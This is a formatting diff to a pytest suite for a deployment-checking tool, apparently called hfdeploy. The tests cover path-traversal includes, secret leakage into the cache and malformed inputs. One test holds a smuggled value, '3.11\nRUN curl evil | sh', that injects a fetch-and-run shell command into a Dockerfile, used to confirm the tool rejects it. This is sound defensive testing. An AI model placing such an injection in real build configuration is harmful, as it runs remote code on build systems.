@@ -24,7 +24,11 @@ def run(root: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProc
     env = {**os.environ, "PYTHONPATH": WORKTREE, "HFDEPLOY_CACHE_DIR": str(root.parent / "cache")}
     return subprocess.run(
         [sys.executable, "-m", "hfdeploy", *args, str(root)],
-        capture_output=True, text=True, timeout=timeout, env=env, check=False,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env=env,
+        check=False,
     )
 
 
@@ -52,7 +56,9 @@ def outside(tmp_path: Path) -> Path:
 @pytest.mark.parametrize("include", ["../outside/x.txt", "OUTSIDE_ABS"])
 def test_outside_requirements_include_is_never_read_printed_or_written(tmp_path, outside, include):
     include = str(outside / "x.txt") if include == "OUTSIDE_ABS" else include
-    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": f"-r {include}\nuvicorn\n"})
+    repo = make_tree(
+        tmp_path / "repo", {"main.py": APP, "requirements.txt": f"-r {include}\nuvicorn\n"}
+    )
     before = snapshot(outside)
     for fmt in FORMATS:
         proc = run(repo, "check", "--offline", "--format", fmt)
@@ -84,10 +90,14 @@ def test_symlink_inside_the_repository_is_written_through_not_replaced(tmp_path)
 
 def test_python_setting_from_pyproject_is_validated_at_the_choke_point(tmp_path):
     for bad in ('"banana"', '"3.11\\nRUN curl evil | sh"'):
-        repo = make_tree(tmp_path / f"r{len(bad)}", {
-            "main.py": APP, "requirements.txt": "fastapi\n",
-            "pyproject.toml": f"[tool.hfdeploy]\npython = {bad}\n",
-        })
+        repo = make_tree(
+            tmp_path / f"r{len(bad)}",
+            {
+                "main.py": APP,
+                "requirements.txt": "fastapi\n",
+                "pyproject.toml": f"[tool.hfdeploy]\npython = {bad}\n",
+            },
+        )
         proc = run(repo, "fix", "--offline", "--write")
         assert proc.returncode == 2, proc.stdout + proc.stderr
         assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
@@ -109,8 +119,10 @@ def test_fifo_python_file_in_a_large_non_git_tree_does_not_hang(tmp_path):
 
 @pytest.mark.parametrize("cookie", ["undefined", "punycode"])
 def test_odd_coding_cookie_is_no_traceback(tmp_path, cookie):
-    repo = make_tree(tmp_path / "repo", {
-        "main.py": f"# -*- coding: {cookie} -*-\n" + APP, "requirements.txt": "fastapi\n"})
+    repo = make_tree(
+        tmp_path / "repo",
+        {"main.py": f"# -*- coding: {cookie} -*-\n" + APP, "requirements.txt": "fastapi\n"},
+    )
     assert_clean(run(repo, "check", "--offline"))
 
 
@@ -135,18 +147,24 @@ def test_read_only_repository_writes_nothing(tmp_path):
 
 
 def test_stale_temp_file_is_reported(tmp_path):
-    repo = make_tree(tmp_path / "repo", {
-        "main.py": APP, "requirements.txt": "fastapi\n", ".hfdeploy-abc.tmp": f"KEY={SECRET}\n"})
+    repo = make_tree(
+        tmp_path / "repo",
+        {"main.py": APP, "requirements.txt": "fastapi\n", ".hfdeploy-abc.tmp": f"KEY={SECRET}\n"},
+    )
     proc = run(repo, "check", "--offline")
     assert_clean(proc)
     assert ".hfdeploy-abc.tmp" in proc.stdout
 
 
 def test_cache_holds_no_secret_and_is_private(tmp_path):
-    repo = make_tree(tmp_path / "repo", {
-        "main.py": APP + f'DATABASE_URL = "postgres://u:{SECRET}@db/x"\n',
-        "requirements.txt": "fastapi\n",
-        ".env": f"DATABASE_URL=postgres://u:{SECRET}@db/x\n"})
+    repo = make_tree(
+        tmp_path / "repo",
+        {
+            "main.py": APP + f'DATABASE_URL = "postgres://u:{SECRET}@db/x"\n',
+            "requirements.txt": "fastapi\n",
+            ".env": f"DATABASE_URL=postgres://u:{SECRET}@db/x\n",
+        },
+    )
     git_init(repo)
     assert_clean(run(repo, "check", "--offline"))
     cache = tmp_path / "cache"
@@ -160,8 +178,10 @@ def test_cache_holds_no_secret_and_is_private(tmp_path):
 
 
 def test_corrupt_git_head_is_no_traceback(tmp_path):
-    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n",
-                                        ".env": f"TOKEN={SECRET}\n"})
+    repo = make_tree(
+        tmp_path / "repo",
+        {"main.py": APP, "requirements.txt": "fastapi\n", ".env": f"TOKEN={SECRET}\n"},
+    )
     git_init(repo)
     (repo / ".git" / "HEAD").write_text("garbage\n")
     proc = run(repo, "check", "--offline")
@@ -172,9 +192,19 @@ def test_corrupt_git_head_is_no_traceback(tmp_path):
 def test_no_git_on_path_is_reported(tmp_path):
     repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n"})
     git_init(repo)
-    env = {**os.environ, "PYTHONPATH": WORKTREE, "HFDEPLOY_CACHE_DIR": str(tmp_path / "cache"),
-           "PATH": str(tmp_path / "nobin")}
-    proc = subprocess.run([sys.executable, "-m", "hfdeploy", "check", "--offline", str(repo)],
-                          capture_output=True, text=True, timeout=60, env=env, check=False)
+    env = {
+        **os.environ,
+        "PYTHONPATH": WORKTREE,
+        "HFDEPLOY_CACHE_DIR": str(tmp_path / "cache"),
+        "PATH": str(tmp_path / "nobin"),
+    }
+    proc = subprocess.run(
+        [sys.executable, "-m", "hfdeploy", "check", "--offline", str(repo)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+        check=False,
+    )
     assert_clean(proc)
     assert "EV002" in proc.stdout
